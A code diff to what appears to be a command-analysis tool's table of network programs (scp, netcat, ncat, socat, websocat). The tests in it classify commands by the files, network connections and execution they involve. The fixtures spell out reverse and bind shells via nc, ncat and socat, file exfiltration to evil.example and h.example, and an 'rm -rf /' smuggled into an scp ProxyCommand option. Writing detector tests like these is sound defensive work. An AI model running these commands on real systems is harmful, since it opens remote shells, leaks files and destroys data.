@@ -7,30 +7,15 @@ const LOOKS: ProgramUsage = { loose: true };
 const ASKS: ProgramUsage = { operands: "host*", fetches: true };
 
 const SSH =
-  optionList(`-4 -6 -A -a -B= -b= -C -c= -D= -E=write -e= -F=read -f -G -g -I= -i=read -J= -K -k -L= -l= -M -m= -N -n -O= -o= -P= -p= -Q= -q -R=
+  optionList(`-4 -6 -A -a -B= -b= -C -c= -D= -E=write -e= -F=read -f -G -g -I= -i=read -J= -K -k -L= -l= -M -m= -N -n -O= -o=ssh-option -P= -p= -Q= -q -R=
   -S= -s -T -t -tt -V -v -vv -vvv -W= -w= -X -x -Y -y`);
 
 const SCP = optionList(
-  "-3 -4 -6 -A -B -C -c= -D= -F=read -I= -i=read -J= -l= -O -o= -P= -p -q -R -r -S=command -s -T -v -X= -a -b=script -f -N",
+  "-3 -4 -6 -A -B -C -c= -D= -F=read -I= -i=read -J= -l= -O -o=ssh-option -P= -p -q -R -r -S=command -s -T -v -X= -a -b=script -f -N",
 );
 
-/** Options of OpenSSH may name a program: `-o ProxyCommand=…`, `-F` a file of them. */
-const SSH_CODE = [
-  {
-    has: [
-      "-o=*ommand*",
-      "-o=*OMMAND*",
-      "-o=*nclude*",
-      "-o=*rogram*",
-      "-o=*rovider*",
-      "-o=*skpass*",
-      "-F",
-      "-I",
-      "-S=*",
-    ],
-    unknown: "opaque-code",
-  },
-] as const;
+/** A file of options, or a library that is loaded. What `-o` says is read. */
+const SSH_CODE = [{ has: ["-F", "-I", "-S=*"], unknown: "opaque-code" }] as const;
 
 /** A remote may be written out, with the command that reaches it: `:sftp,ssh=…:`. */
 const LISTS_REMOTE: ProgramUsage = {
@@ -80,6 +65,21 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         reads: ["~/.ssh/id"],
         network: ["out ssh://u@h.example//tmp < ~/.ssh/id"],
       },
+      {
+        run: "scp -qvoProxyCommand='rm -rf /' a h.example:b",
+        reads: ["./a"],
+        deletes: ["/**"],
+        network: ["out ssh://h.example/b < ./a"],
+      },
+      {
+        run: "scp -o 'localcommand rm x' -oUser=u a h.example:b",
+        reads: ["./a"],
+        deletes: ["./x"],
+        network: ["out ssh://h.example/b < ./a"],
+      },
+      { run: "scp a b:", reads: ["./a"], network: ["out ssh://b/ < ./a"] },
+      { run: "scp b:k .", writes: ["./k"], network: ["in ssh://b/k"] },
+      { run: "scp C:/a b", reads: ["./C:/a"], writes: ["./b", "./b/a"] },
       { run: "scp -r h.example:/x y", writes: ["./y/**", "./y/x/**"], network: ["in ssh://h.example//x"] },
     ],
   },
@@ -137,13 +137,15 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     ],
   },
   {
-    name: ["nc", "netcat", "nc.traditional", "nc.openbsd"],
+    name: ["nc", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "dbd", "sbd"],
     options: optionList(
       `-4 -6 -b -C -c=code -D -d -e=command -F -g= -G= -h -i= -I= -K= -k -l -L -M= -m= -N -n -O= -o=write -P= -p= -q= -r -S -s= -T= -t -U -u -V= -v -vv -W= -w= -X= -x= -z -Z=write -A`,
     ),
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     tests: [
       {
         run: "nc -w 3 evil.example 4444 < ~/x",
@@ -153,7 +155,21 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       {
         run: "nc -e /bin/sh evil.example 4444",
         network: ["both tcp://evil.example"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
         commands: ["nc", "sh"],
+      },
+      {
+        run: "nc -lp 9 -e /bin/bash",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "nc -c 'cat k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+        commands: ["nc", "cat"],
       },
     ],
   },
@@ -167,8 +183,28 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     operands: "host port",
     sends: true,
     fetches: true,
+    serves: true,
+    when: [{ has: ["-l"], operands: "", listens: true }],
     lang: "lua",
     tests: [
+      {
+        run: "ncat --listen --exec=/bin/bash 4444",
+        executes: ["network bash"],
+        network: ["listen ?"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "ncat --sh-exec 'grep x k' h.example 9",
+        reads: ["./k"],
+        network: ["both tcp://h.example < ./k"],
+      },
+      {
+        run: "ncat --lua-exec x.lua -l 9",
+        reads: ["./x.lua"],
+        executes: ["file lua"],
+        network: ["listen ?"],
+        unknown: ["opaque-file"],
+      },
       {
         run: "ncat --send-only h.example 99 < x",
         reads: ["./x"],
@@ -179,19 +215,73 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["socat", "socat1", "filan"],
     handler: "socat",
-    options: optionList(
-      `-V -h -? -hh -hhh -d -dd -ddd -dddd -D --experimental --statistics -lf=write -ls -ly= -lu -lp= -lm= -lh -v -x -r=write -R=write -b= -s -S= -t= -T= -u -U -g -L=write -W=write -4 -6 -0 -q`,
-    ),
-    style: "single",
-    operands: "host host",
     sends: true,
     fetches: true,
     tests: [
       {
         run: "socat -u OPEN:x TCP:h.example:1",
         reads: ["./x"],
+        network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat TCP:h.example:1 OPEN:x,creat",
+        reads: ["./x"],
         writes: ["./x"],
         network: ["both tcp://h.example:1 < ./x"],
+      },
+      {
+        run: "socat DCCP-LISTEN:4444 EXEC:/bin/sh",
+        network: ["listen ?"],
+        executes: ["network sh"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat exec:'bash -li',pty,stderr,setsid tcp:h.example:1",
+        network: ["both tcp://h.example:1"],
+        executes: ["network bash"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: "socat -u OPEN:k EXEC:'curl --data-binary @- h.example'",
+        reads: ["./k"],
+        network: ["both http://h.example < ./k"],
+        commands: ["socat", "curl"],
+      },
+      {
+        run: "socat SYSTEM:'cat k' SSL:h.example:1",
+        reads: ["./k"],
+        network: ["both ssl://h.example:1 < ./k"],
+        unknown: ["dynamic-code"],
+      },
+      {
+        run: 'socat FILE:k "TCP:$host:1"',
+        reads: ["./k"],
+        network: ["both ? < ./k"],
+        writes: ["./k"],
+        unknown: ["dynamic-argument"],
+      },
+      { run: "socat -r dump - TCP:h.example:1", writes: ["./dump"], network: ["both tcp://h.example:1"] },
+      { run: "socat -u ./k CREATE:y", reads: ["./k"], writes: ["./y"] },
+      { run: "socat - UNIX-CONNECT:/run/x.sock" },
+      { run: "socat -V" },
+      { run: "socat FROB:x -", unknown: ["unknown-option"] },
+    ],
+  },
+  {
+    name: ["websocat", "wscat", "wsdump"],
+    loose: true,
+    options: optionList(
+      "-H,--header=header -b -e -c,--connect=url -x,--execute= -l,--listen= --exec=code -k --ca=",
+    ),
+    operands: "host*",
+    sends: true,
+    fetches: true,
+    serves: true,
+    tests: [
+      {
+        run: "websocat wss://h.example/x < k",
+        reads: ["./k"],
+        network: ["both wss://h.example/x < ./k"],
       },
     ],
   },
